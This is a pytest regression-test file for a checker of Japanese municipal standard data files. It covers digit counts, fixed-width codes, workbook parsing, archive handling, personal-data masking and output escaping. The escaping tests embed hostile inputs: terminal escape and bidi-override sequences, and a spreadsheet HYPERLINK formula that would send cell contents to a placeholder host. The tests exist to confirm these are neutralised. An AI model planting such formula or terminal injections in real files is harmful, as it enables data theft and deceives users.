"""No false valid, no leak, no broken output: one regression test per class, through public entry points.

* S9 digit counts (the sign excluded) are enforced on both the exact and the column path;
* fixed-width codes (業務ID "3桁のコード値", 独自施策システム等ID "3桁の半角文字列"): ``1`` and ``01`` fail;
* workbook import: merged cells are read, look-alike key marks are read or refused by name;
* a deliverable in which nothing was checked is never conformant; nested archives are not opened;
* items that locate a person or their property are personal in every built-in spec;
* CSV001 never prints a value's bytes in full;
* every XML/HTML output is well-formed whatever the data holds; the findings CSV carries no live
  formula; the text report sends no control sequence to the terminal.

The personal-data canary is in tests/test_canary.py.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import kikan_std
from kikan_std.cli import main
from kikan_std.deliverable import check_deliverable
from kikan_std.model.fields import FieldChecker
from kikan_std.model.formats import FORMATS
from kikan_std.model.spec import DataType, Group, Item, Obligation, Spec
from kikan_std.model.workbook import load_workbook
from kikan_std.specs import BUILTIN, load_spec
from kikan_std.testing.generate import GENERATORS, csv_text
from kikan_std.testing.generators.deliverable import write_deliverable
from kikan_std.writers._common import csv_cell, terminal_safe, xml_safe
from tests.test_workbook import make_workbook


def _run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    return main(list(argv), stdout=out, stderr=err), out.getvalue(), err.getvalue()


def _spec(*items: Item) -> Spec:
    return Spec(id="t", business_code="000", title="t", edition="1", published="2025-01-01", provenance="modeled",
                groups=(Group(name="g", romaji="g", items=items),))


def _item(name: str, t: DataType, length: str) -> Item:
    return Item(name=name, romaji=name, type=t, length=length, obligation=Obligation.OPTIONAL, provenance="modeled")


# -- 2. S9: the digit count, sign excluded ----------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.integers(1, 6), st.text(alphabet="-0123456789１", max_size=9))
def test_s9_exact_and_column_paths_agree_and_count_digits(n: int, value: str) -> None:
    it = _item("金額", DataType.SIGNED, str(n))
    exact = FieldChecker(it, None).check_value(value)
    assert (exact == []) == FieldChecker(it, None).column_clean([value]), (n, value, exact)
    if re.fullmatch(r"-?\d+", value, re.ASCII):
        assert (exact == []) == (len(value.lstrip("-")) <= n), (n, value, exact)


def test_s9_too_many_digits_is_reported_from_a_spec_file(tmp_path: Path) -> None:
    spec = _spec(_item("増減額", DataType.SIGNED, "3"))
    spec_file = tmp_path / "spec.json"
    spec_file.write_text(spec.model_dump_json(), encoding="utf-8")
    data = tmp_path / "d.csv"
    data.write_text("増減額\r\n-999\r\n999\r\n-1000\r\n1000\r\n", encoding="utf-8")
    code, out, err = _run("check", str(data), "--spec-file", str(spec_file), "--output-format", "json")
    assert code == 1, err
    assert [(f["code"], f["record"]) for f in json.loads(out)["findings"]] == [("FLD010", 3), ("FLD010", 4)]


def test_s9_from_a_workbook(tmp_path: Path) -> None:
    wb = make_workbook(tmp_path / "wb.xlsx", rows=[
        {1: "999", 2: 1, 3: "番号", 4: "bango", 5: "テストグループ", 6: "○", 11: "X", 12: 5, 15: "必須"},
        {1: "999", 2: 2, 3: "増減額", 4: "zogengaku", 5: "テストグループ", 11: "S9", 12: 3, 15: "任意"},
    ])
    data = tmp_path / "d.csv"
    data.write_text("番号,増減額\r\nA1,-123\r\nA2,-1234\r\n", encoding="utf-8")
    report = kikan_std.check(data, spec=load_workbook(wb))
    assert not report.valid and [(f.code, f.record) for f in report.findings] == [("FLD010", 2)]


# -- 11. codes of a fixed width --------------------------------------------------------------------


def test_gyomu_id_is_a_three_digit_code(tmp_path: Path) -> None:
    rows = list(GENERATORS["jutogai_atena"](5, 1))
    header = rows[0]
    g, d = header.index("業務ID"), header.index("独自施策システム等ID")
    rows[1][g], rows[2][g], rows[3][g] = "1", "01", "001"
    rows[4][d] = "12"
    path = tmp_path / "j.csv"
    path.write_text(csv_text(iter(rows)), encoding="utf-8")
    report = kikan_std.check(path, spec="jutogai_atena")
    assert [(f.code, f.record, f.item) for f in report.findings if f.code == "FLD022"] == [
        ("FLD022", 1, "業務ID"), ("FLD022", 2, "業務ID"), ("FLD022", 4, "独自施策システム等ID")]
    assert not report.valid


def test_every_n_digit_code_item_is_checked_for_its_width() -> None:
    """The class: an item whose text says "n桁のコード値" gets the width check (or a code list) in every spec."""
    for spec_id in BUILTIN:
        for g in load_spec(spec_id).groups:
            for it in g.items:
                if re.search(r"\d+桁のコード値", it.description) or it.name in ("業務ID", "独自施策システム等ID"):
                    fixed = it.format is not None and FORMATS[it.format].width == it.max_length
                    assert it.format in ("code_digits", "code_width") or fixed or it.code_list, (spec_id, it.name)


# -- 6. workbook: merged cells and look-alike marks ------------------------------------------------


def _merged_workbook(path: Path, mark: str = "○") -> Path:
    make_workbook(path, rows=[
        {1: "999", 2: 1, 3: "番号", 4: "bango", 5: "テストグループ", 6: mark, 11: "X", 12: 5, 15: "必須"},
        {1: "999", 2: 2, 3: "区分", 4: "kubun", 5: "テストグループ", 11: 9, 12: 1, 13: "001", 15: "任意",
         17: "区分の説明"},
        {1: "999", 2: 3, 3: "区分2", 4: "kubun2", 5: "テストグループ", 11: 9, 12: 1, 15: "任意"},
    ])
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[0]
    ws.merge_cells(start_row=8, start_column=14, end_row=9, end_column=14)  # コード over two items
    ws.merge_cells(start_row=8, start_column=18, end_row=9, end_column=18)  # 項目説明 over two items
    wb.save(path)
    return path


def test_merged_cells_apply_to_every_row_they_cover(tmp_path: Path) -> None:
    spec = load_workbook(_merged_workbook(tmp_path / "wb.xlsx"))
    items = {it.name: it for it in spec.groups[0].items}
    assert items["区分2"].code_list == items["区分"].code_list is not None
    assert "区分の説明" in items["区分2"].description
    data = tmp_path / "d.csv"
    data.write_text("番号,区分,区分2\r\nA1,0,1\r\nA2,1,7\r\n", encoding="utf-8")
    report = kikan_std.check(data, spec=spec)
    assert [(f.code, f.record, f.item) for f in report.findings] == [("FLD015", 2, "区分2")]


@pytest.mark.parametrize("mark", ["○", "〇", "◯"])
def test_look_alike_key_marks_are_read_as_the_mark(tmp_path: Path, mark: str) -> None:
    spec = load_workbook(_merged_workbook(tmp_path / "wb.xlsx", mark))
    assert spec.groups[0].primary_key == ("番号",)


@pytest.mark.parametrize("mark", ["Ｏ", "o", "済"])
def test_an_unreadable_key_mark_is_a_usage_error_naming_the_cell(tmp_path: Path, mark: str) -> None:
    wb = _merged_workbook(tmp_path / "wb.xlsx", mark)
    data = tmp_path / "d.csv"
    data.write_text("番号\r\nA1\r\n", encoding="utf-8")
    code, _out, err = _run("check", str(data), "--spec-file", str(wb))
    assert code == 2
    assert "7行目" in err and "主キー" in err and f"U+{ord(mark):04X}" in err and "Traceback" not in err


# -- 7. nothing checked is never valid --------------------------------------------------------------


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def test_nothing_checked_is_never_valid(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    inner = _zip(tmp_path / "inner.zip", {"jumin_kiroku__jumin.csv": b"a\r\n1\r\n"}).read_bytes()
    cases = {
        tmp_path / "empty": ["DLV009"],
        _zip(tmp_path / "empty.zip", {}): ["DLV009"],
        _zip(tmp_path / "nested.zip", {"data.zip": inner}): ["DLV009", "DLV010"],
        _zip(tmp_path / "readme.zip", {"README.txt": b"hello"}): ["DLV008", "DLV009"],
    }
    for path, codes in cases.items():
        report = check_deliverable(path)
        assert not report.valid, path
        assert sorted(f.code for f in report.findings) == codes, path
        code, _, err = _run("check", str(path), "--no-progress")
        assert code == 1, (path, err)


def test_a_nested_archive_beside_checked_files_is_not_valid(tmp_path: Path) -> None:
    folder = tmp_path / "d"
    write_deliverable(folder, 40, 2)
    assert check_deliverable(folder).valid
    _zip(folder / "more.zip", {"x.csv": b"a\r\n"})
    report = check_deliverable(folder)
    assert not report.valid and [f.code for f in report.findings] == ["DLV010"]


# -- 14. location items are personal ----------------------------------------------------------------

_LOCATION = re.compile(r"所在|地番|家屋番号|定置場|標識番号|町字$|番地|方書|本籍")


def test_items_that_locate_a_person_are_personal_in_every_builtin_spec() -> None:
    for spec_id in BUILTIN:
        for g in load_spec(spec_id).groups:
            for it in g.items:
                if _LOCATION.search(it.name) and not it.name.endswith("コード"):  # codes stay visible
                    assert it.personal, (spec_id, g.name, it.name)


# -- 12. CSV001 never spells a value out in hex -----------------------------------------------------


def test_csv001_shows_two_bytes_at_most(tmp_path: Path) -> None:
    rows = list(GENERATORS["jutogai_atena"](2, 1))
    i = rows[0].index("操作者ID")  # not personal: the bytes are shown, but only the first two
    rows[1][i] = "\x00MARK\x00"
    data = csv_text(iter(rows)).encode("utf-8").replace(b"\x00MARK\x00", "かきくけ".encode("cp932"))
    path = tmp_path / "j.csv"
    path.write_bytes(data)
    report = kikan_std.check(path, spec="jutogai_atena")
    (f,) = [f for f in report.findings if f.code == "CSV001"]
    assert f.params["bytes"] == "82 A9 …"
    assert "82 AB" not in f.message and "82 A9 …" in f.message


# -- 17 / 18. output escaping -----------------------------------------------------------------------

_HOSTILE = "OP\x00\x1b[2J\x07\x9b31m\u202e"


def _hostile_file(tmp_path: Path) -> Path:
    rows = list(GENERATORS["jutogai_atena"](3, 1))
    i = rows[0].index("操作者ID")
    rows[1][i] = _HOSTILE
    rows[2][i] = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    path = tmp_path / "hostile.csv"
    path.write_text(csv_text(iter(rows)), encoding="utf-8")
    return path


def test_xml_and_html_reports_are_well_formed_with_any_data(tmp_path: Path) -> None:
    path = _hostile_file(tmp_path)
    prefix = tmp_path / "out" / "r"
    code, _, err = _run("check", str(path), "--spec", "jutogai_atena", "--show-values", "--output-format",
                        "junit,html,sarif,json", "-o", str(prefix), "--no-progress")
    assert code == 1, err
    junit = (tmp_path / "out" / "r.junit.xml").read_text(encoding="utf-8")
    root = ET.fromstring(junit)  # well-formed: no raw NUL or ESC
    assert "OP\\x00\\x1B[2J" in junit and root.tag == "testsuites"
    html = (tmp_path / "out" / "r.html").read_text(encoding="utf-8")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", html)
    for name in ("r.sarif", "r.json"):  # JSON escapes control characters itself
        json.loads((tmp_path / "out" / name).read_text(encoding="utf-8"))


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_xml_safe_makes_any_text_parseable(text: str) -> None:
    safe = xml_safe(text)
    el = ET.Element("a", b=safe)
    el.text = safe
    ET.fromstring(ET.tostring(el, encoding="unicode"))


def test_findings_csv_carries_no_live_formula(tmp_path: Path) -> None:
    path = _hostile_file(tmp_path)
    out = tmp_path / "f.csv"
    code, _, err = _run("check", str(path), "--spec", "jutogai_atena", "--show-values", "--output-format", "csv",
                        "-o", str(out), "--no-progress")
    assert code == 1, err
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert "'" + '=HYPERLINK("http://example.invalid/?"&A1,"x")' in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not re.fullmatch(
        r"-\d+(\.\d+)?", c))]


@pytest.mark.parametrize("cell,expected", [
    ("=1+2", "'=1+2"), ("+1", "+1"), ("+1+1", "'+1+1"), ("-1", "-1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("＝１", "'＝１"), ("a=b", "a=b"), (7, 7),
])
def test_csv_cell(cell: object, expected: object) -> None:
    assert csv_cell(cell) == expected


def test_text_report_sends_no_control_sequence_to_the_terminal(tmp_path: Path) -> None:
    path = _hostile_file(tmp_path)
    code, out, err = _run("check", str(path), "--spec", "jutogai_atena", "--show-values", "--no-progress")
    assert code == 1, err
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out + err)
    assert "OP\\x00\\x1B[2J\\x07\\x9B31m\\u202E" in out


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_terminal_safe_leaves_only_tab_and_line_feed(text: str) -> None:
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", terminal_safe(text))


def test_the_offending_character_is_shown_and_the_rest_of_the_value_masked(tmp_path: Path) -> None:
    """#17: the one offending character of a personal value, its code point and position are shown (what the
    auditor must fix); the value itself stays masked; in a value of fewer than four characters the character
    is masked too (one character would be too much of it)."""
    from kikan_std.testing.generate import iter_jutogai_atena, write_csv

    rows = list(iter_jutogai_atena(3, 1))
    name = rows[0].index("氏名")
    rows[1][name] = "ﾔﾏﾀﾞ　ﾀﾛｳ"
    rows[2][name] = "ﾔﾏ"
    path = tmp_path / "atena.csv"
    write_csv(path, rows)
    findings = {f.record: f for f in kikan_std.check(path, spec="jutogai_atena").findings if f.code == "CHR004"}
    long, short = findings[1], findings[2]
    assert (long.params["char"], long.params["codepoints"], long.params["position"]) == ("ﾔ", "U+FF94", 1)
    assert "ﾔﾏﾀﾞ" not in long.message and long.value is not None and "ﾔ" not in long.value
    assert (short.params["char"], short.params["codepoints"]) == ("*", "U+****")
    assert "ﾔ" not in short.message
